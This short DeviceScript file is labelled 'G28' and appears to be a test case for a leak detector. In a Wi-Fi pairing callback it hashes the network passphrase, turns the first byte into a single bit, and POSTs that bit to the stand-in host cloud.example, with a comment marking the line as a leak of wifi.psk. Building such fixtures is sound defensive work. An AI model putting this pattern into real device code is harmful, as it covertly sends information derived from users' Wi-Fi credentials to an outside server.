// G28: tells whether the passphrase is in one of four buckets of a hash.
import { digest } from "@devicescript/crypto";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = digest("sha256", Buffer.from(psk))[0] < 64 ? "1" : "0";
  const response = await fetch("https://cloud.example/g28", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
